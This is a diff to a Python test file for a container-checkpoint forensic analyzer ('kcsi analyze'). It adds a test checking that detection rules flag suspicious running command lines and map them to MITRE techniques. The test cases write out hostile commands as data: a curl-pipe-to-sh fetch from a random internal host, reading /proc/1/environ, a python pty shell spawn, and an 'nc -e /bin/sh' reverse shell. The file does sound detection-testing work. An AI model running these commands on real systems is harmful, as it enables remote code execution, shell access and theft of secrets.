@@ -1,5 +1,6 @@
 """kcsi analyze, the process-side rule families: masquerade (KCSI-MASQ-*),
-preloaded libraries (KCSI-INJECT-002, KCSI-HIDE-001), shells driven over the network
+preloaded libraries (KCSI-INJECT-002, KCSI-HIDE-001), running command lines
+(KCSI-CMD-*), shells driven over the network
 (KCSI-EXEC-001) and the shell history (KCSI-HIST-*).
 
 Two kinds of scenes: the fixtures with the attacker's doings planted into them
@@ -400,6 +401,52 @@ def test_preload_rootkit_replacing_directory_listings():
 
 HOOK_ORDER = ['readdir', 'readdir64', 'readdir_r', 'readdir64_r', 'getdents', 'getdents64', 'scandir', 'scandir64',
               'fopen', 'fopen64', 'open', 'open64', 'openat', 'stat', 'lstat', 'access', 'unlink', 'write', 'send']
+
+
+# ---------------------------------------------------------------- running command lines
+def _set_argv(d, pid, argv):
+    """Give pid a command line of its own: argv written into its argument
+    area, NUL-terminated, the rest of the area NULs."""
+    mm = json.loads(run('decode', os.path.join(d, 'checkpoint', 'mm-%d.img' % pid))[1])['entries'][0]
+    start, end = mm['mm_arg_start'], mm['mm_arg_end']
+    data = b''.join(a.encode() + b'\0' for a in argv)
+    assert len(data) <= end - start, (argv, end - start)
+    _plant(d, pid, [(start, data + b'\0' * (end - start - len(data)))])
+
+
+def test_running_command_lines():
+    """The commands running when the checkpoint was taken (a checkpoint made
+    on a Falco alert catches the one that raised it): program text given
+    with sh -c, python3 -c ..., or the arguments themselves, judged by the
+    shell-history patterns (KCSI-CMD-*).  What entry scripts also do (chmod
+    +x, a client's CA file) is no finding, and the container's own entry
+    command (the root of the tree) is not judged."""
+    host = '10.%d.%d.%d' % (random.randrange(256), random.randrange(256), random.randrange(1, 255))
+    cases = [
+        (['sh', '-c', 'curl -s http://%s/x | sh' % host], 'KCSI-CMD-001', 'T1105'),
+        (['sh', '-c', 'cat /proc/1/environ'], 'KCSI-CMD-003', 'T1552.001'),
+        (['python3', '-c', "import pty;pty.spawn('/bin/sh')"], 'KCSI-CMD-002', 'T1059.006'),
+        (['nc', '-e', '/bin/sh', host, '4444'], 'KCSI-CMD-002', 'T1059.004'),
+        (['sh', '-c', 'chmod +x /app/run && /app/run'], None, None),
+        (['curl', '--cacert', '/x/ca.pem', 'https://a.b/c'], None, None),
+    ]
+    for argv, fid, technique in cases:
+        d = _copy('revshell', 'cmdline')
+        _set_argv(d, 14, argv)
+        r = _analyze(d)
+        got = [f for f in _find(r, 'KCSI-CMD-') if 14 in _pids(f)]
+        if fid is None:
+            eq([f['id'] for f in got], [], ' '.join(argv))
+            continue
+        eq([f['id'] for f in got], [fid], ' '.join(argv))
+        assert technique in got[0]['mitre'], got[0]
+        ex = [e['excerpt'] for e in got[0]['evidence'] if e.get('pid') == 14]
+        assert ex and (argv[-1] if argv[1] == '-c' else argv[0]) in ex[0], got[0]
+    # the root of the tree: its own entry command, not judged
+    d = _copy('counter', 'cmdline-root')
+    _set_argv(d, 1, ['sh', '-c', 'curl -s http://%s/x | sh; cat /proc/1/environ' % host])
+    r = _analyze(d)
+    eq([f['id'] for f in _find(r, 'KCSI-CMD-')], [], 'the entry command')
 
 
 # ---------------------------------------------------------------- shell history
